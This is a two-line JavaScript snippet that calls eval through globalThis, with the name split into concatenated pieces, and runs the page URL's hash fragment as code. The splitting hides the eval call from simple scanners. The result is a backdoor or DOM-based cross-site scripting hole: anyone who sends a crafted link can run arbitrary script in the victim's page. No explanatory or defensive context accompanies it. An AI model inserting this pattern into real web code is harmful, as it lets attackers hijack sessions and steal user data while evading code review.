const g = globalThis;
g['e' + 'v' + 'al'](location.hash.slice(1));
